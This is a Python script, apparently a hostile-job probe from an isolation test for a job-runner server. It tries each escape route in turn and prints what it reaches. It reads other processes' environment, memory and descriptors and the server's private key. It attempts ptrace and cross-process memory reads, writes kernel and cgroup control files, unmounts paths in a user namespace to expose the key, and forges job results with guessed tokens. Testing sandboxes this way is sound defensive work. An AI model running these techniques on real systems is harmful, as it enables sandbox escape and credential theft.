"""What a hostile job tries, one way after the other; run by the job's own Python, as a step.

`python3 - JSON` with this file as its input. JSON: the process ids that it is after, the server's
data folder, the port of the server, its own attempt, and the name of what others share. Prints
`reached WAY` for each way that leads out, and whatever it can read.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import platform
import resource
import signal
import socket
import stat
import subprocess
import sys
import urllib.error
import urllib.request

WANTED = json.loads(sys.argv[1])
PIDS: list[int] = WANTED["pids"]
DATA: str = WANTED["data"]
NAME: str = WANTED["name"]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
X86 = platform.machine() == "x86_64"
VM_READV, KEYCTL, PERF, BY_HANDLE = (310, 250, 298, 304) if X86 else (270, 219, 241, 265)
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PTRACE_SEIZE = 0x4206


def reached(way: str, what: object = "") -> None:
    # In two parts: the log shows the command too.
    print("reach" + "ed", way, what, flush=True)


def readable(way: str, path: str) -> None:
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    try:
        print(os.read(descriptor, 4096))
    except OSError:
        return
    reached(way, path)


def writable(way: str, path: str) -> None:
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        return
    reached(way, path)


def makes(way: str, folder: str) -> None:
    """A new file in there."""
    place = f"{folder}/{NAME}"
    try:
        os.close(os.open(place, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
    except OSError:
        return
    reached(way, place)
    os.unlink(place)


def processes() -> None:
    for pid in PIDS:
        readable("proc", f"/proc/{pid}/environ")
        readable("proc", f"/proc/{pid}/mem")
        readable("proc", f"/proc/{pid}/root{DATA}/server.key")
        readable("proc", f"/proc/{pid}/cwd/server.key")
        for number in range(30):
            readable("descriptors", f"/proc/{pid}/fd/{number}")
        if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
            reached("ptrace", pid)
        here = ctypes.create_string_buffer(8)
        both = (ctypes.c_size_t * 2)(ctypes.addressof(here), 8)
        got = libc.syscall(VM_READV, pid, both, 1, both, 1, 0)
        if got >= 0 or ctypes.get_errno() == errno.EFAULT:
            reached("memory", pid)
        opened = libc.syscall(PIDFD_OPEN, pid, 0)
        for number in range(30 if opened >= 0 else 0):
            got = libc.syscall(PIDFD_GETFD, opened, number, 0)
            if got >= 0:
                reached("pidfd", number)
                os.close(got)
        if opened >= 0:
            os.close(opened)
        attributes = (ctypes.c_uint32 * 32)(1, 128)
        if libc.syscall(PERF, attributes, pid, -1, -1, 0) >= 0:
            reached("perf", pid)
        try:
            resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0))
            reached("prlimit", pid)
        except OSError:
            pass
        try:
            os.kill(pid, signal.SIGSTOP)
            reached("signal", pid)
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass


def shared() -> None:
    """Keys, sockets and memory that are not files."""
    for ring in (-3, -4, -5):  # Session, user, user session.
        key = libc.syscall(KEYCTL, 10, ring, b"user", NAME.encode(), 0)
        said = ctypes.create_string_buffer(100)
        if key > 0 and libc.syscall(KEYCTL, 11, key, said, 100) > 0:
            reached("keyring", said.value)
    for address in (f"\0{NAME}", f"{DATA}/control.sock"):
        with socket.socket(socket.AF_UNIX) as one:
            try:
                one.connect(address)
                reached("abstract" if address[0] == "\0" else "socket", one.recv(100))
            except OSError:
                pass
    with open("/proc/sysvipc/shm") as file:
        segments = [int(line.split()[1]) for line in file if line.split()[1].isdigit()]
    for segment in segments:
        place = libc.shmat(segment, None, 0o10000)
        if place not in (None, ctypes.c_void_p(-1).value):
            reached("sysv", ctypes.string_at(place, 100))
    for folder in ("/run", "/var/run"):
        for above, _, files in os.walk(folder):
            for name in files:
                if stat.S_ISSOCK(os.lstat(f"{above}/{name}").st_mode):
                    reached("run", f"{above}/{name}")


def kernel() -> None:
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
    ):
        writable("kernel", path)
    for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/console", "/dev/tty"):
        readable("device", path)
    for above, _, files in os.walk("/sys/fs/cgroup"):
        for name in {"cgroup.procs", "tasks", "memory.max", "pids.max", "release_agent"} & {*files}:
            writable("cgroup", f"{above}/{name}")
    handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    place = os.open("/usr", os.O_RDONLY)
    if libc.syscall(BY_HANDLE, place, handle, 0) >= 0 or ctypes.get_errno() == errno.ESTALE:
        reached("handle")
    os.close(place)
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file if ":\t" in line)
    if status["NoNewPrivs"].strip() != "1" or int(status["CapEff"], 16):
        reached("privileges", status)
    if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
        reached("core")
    for number in map(int, os.listdir("/proc/self/fd")):
        link = f"/proc/self/fd/{number}"
        if number > 2 and os.path.exists(link) and not os.readlink(link).startswith("/proc/"):
            reached("inherited", os.readlink(link))


def files() -> None:
    for folder in (*WANTED["servers"], "/usr/bin", "/etc", "/usr/lib", DATA):
        makes("write", folder)
    # With namespaces of its own it is root there, and what covers a place could be taken away.
    look = (
        f"umount -l /root /tmp /run /var/tmp /dev/shm; cat {DATA}/server.key; mount -t proc p /mnt"
    )
    said = subprocess.run(("unshare", "-Urm", "sh", "-c", look), capture_output=True, check=False)
    print(said.stdout)


def as_the_runner() -> None:
    """A result for itself, with all tokens that it could think of."""
    url = f"http://127.0.0.1:{WANTED['port']}/jobs/{WANTED['attempt']}"
    for verb, body in (("result", b'{"reason": "ok"}'), ("claim", b'{"code": ""}')):
        for token in ("", "Bearer ", "Bearer None", f"Bearer {WANTED['attempt']}"):
            asked = urllib.request.Request(f"{url}/{verb}", body, {"Authorization": token})
            try:
                with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
                    asked, timeout=5
                ) as answer:
                    reached("runner", answer.read())
            except (OSError, urllib.error.URLError):
                pass


for way in (processes, shared, kernel, files, as_the_runner):
    try:
        way()
    except Exception as error:
        print(f"{way.__name__} could not{' '}go on: {error!r}")
print("tried it" + " all")
